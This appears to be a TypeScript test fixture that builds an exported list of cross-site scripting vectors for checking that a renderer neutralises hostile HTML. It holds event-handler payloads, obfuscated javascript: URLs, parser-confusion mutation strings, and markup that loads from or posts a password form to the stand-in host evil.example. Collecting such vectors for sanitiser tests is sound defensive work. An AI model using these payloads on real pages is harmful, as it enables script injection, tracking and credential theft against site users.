// HTML that runs a script, loads something or lies over the page where it is shown unchanged. `say` and the host
// `evil.example` are what a journey watches for.

const say = 'alert(1)'
const evil = 'https://evil.example'

/** Elements that run a handler by themselves, or once they are touched. */
const handlers = [
  ...[
    'img src=x',
    'video src=x',
    'audio src=x',
    'object data=x',
    'script src=x',
    'link rel=stylesheet href=x',
  ].map((tag) => `<${tag} onerror=${say}>`),
  ...[
    'svg',
    'body',
    'iframe',
    'input autofocus',
    'style',
    'marquee',
    'details open',
    'video autoplay',
    'frameset',
  ].flatMap((tag) => ['onload', 'onfocus', 'ontoggle'].map((handler) => `<${tag} ${handler}=${say}>x`)),
  ...['onclick', 'onmouseover', 'onpointerenter', 'onanimationstart', 'onfocusin', 'oncopy'].map(
    (handler) => `<p tabindex=0 style="animation:x 1s" ${handler}="${say}">p</p>`,
  ),
]

const addresses = [
  `javascript:${say}`,
  `JaVaScRiPt:${say}`,
  `java&#9;script:${say}`,
  `java&#10;script:${say}`,
  ` &#14; javascript:${say}`,
  `&#106;avascript:${say}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:${say}`,
  `vbscript:${say}`,
  `data:text/html,<script>${say}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  'blob:https://evil.example/x',
  `//evil.example/x`,
]

const links = addresses.map((address) => `<a href="${address}">link</a>`)
const sources = addresses
  .slice(0, 9)
  .map((address) => `<img src="${address}"><iframe src="${address}"></iframe>`)

/** Markup that parsers read in different ways. */
const confusing = [
  `<script>${say}</script>`,
  `<scr<script>ipt>${say}</scr</script>ipt>`,
  `<<script>${say};//<</script>`,
  `<script\x0c>${say}</script>`,
  `<script/x>${say}</script>`,
  `<ScRiPt>${say}</sCrIpT>`,
  `<svg><script>${say}</script></svg>`,
  `<svg><script href="${evil}/x.js"/></svg>`,
  `<svg><animate onbegin=${say} attributeName=x dur=1s>`,
  `<svg><set attributeName="href" to="javascript:${say}"/><a><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${say}'/>#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${say}></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${say}&gt;">`,
  `<math><mi xlink:href="javascript:${say}">x</mi></math>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${say} src>">`,
  `<noscript><p title="</noscript><img src=x onerror=${say}>"></noscript>`,
  `<template><img src=x onerror=${say}></template>`,
  `<textarea><img src=x onerror=${say}></textarea>`,
  `<title><img src=x onerror=${say}></title>`,
  `<xmp><img src=x onerror=${say}></xmp>`,
  `<select><style></select><img src=x onerror=${say}></style>`,
  `<p title="</p><img src=x onerror=${say}>">p</p>`,
  `<!--><img src=x onerror=${say}>-->`,
  `<!--[if IE]><img src=x onerror=${say}><![endif]-->`,
  `<![CDATA[><img src=x onerror=${say}>]]>`,
  `<?xml-stylesheet href="${evil}/x.xsl"?>`,
  `<img """><script>${say}</script>">`,
  `<img src=x:x onerror\x0b=${say}>`,
  `<img/src/onerror=${say}>`,
  `<a href="https://a.example/" ping="${evil}/ping" target=_top>a</a>`,
  `&lt;script&gt;${say}&lt;/script&gt;`,
]

/** Markup that loads from another site, leads there, or lies over the page. */
const loading = [
  `<img src="${evil}/pixel.gif">`,
  `<img srcset="${evil}/pixel.gif 1x">`,
  `<picture><source srcset="${evil}/pixel.gif"><img src="${evil}/b.gif"></picture>`,
  `<link rel=stylesheet href="${evil}/x.css"><link rel=prefetch href="${evil}/x"><link rel=dns-prefetch href=//evil.example>`,
  `<meta http-equiv=refresh content="0;url=${evil}/">`,
  `<base href="${evil}/"><img src="a.gif">`,
  `<style>@import "${evil}/x.css"; p { background: url(${evil}/x.gif) }</style>`,
  `<p style="background:url(${evil}/x.gif)">p</p>`,
  `<p style="position:fixed;inset:0;z-index:9999;background:#fff">over everything</p>`,
  `<div style="position:absolute;top:0;left:0;width:9999px;height:9999px">over everything</div>`,
  `<iframe src="${evil}/"></iframe><iframe srcdoc="<script>parent.${say}</script>"></iframe>`,
  `<object data="${evil}/x.swf"></object><embed src="${evil}/x.swf">`,
  `<form action="${evil}/"><input name=password><button formaction="${evil}/">send</button></form>`,
  `<video poster="${evil}/p.gif"><track src="${evil}/t.vtt"></video>`,
  `<table background="${evil}/x.gif"><tr><td background="${evil}/x.gif">x</td></tr></table>`,
  `<input type=image src="${evil}/x.gif"><isindex action="${evil}/">`,
]

export const scriptVectors: readonly string[] = [...handlers, ...links, ...sources, ...confusing, ...loading]
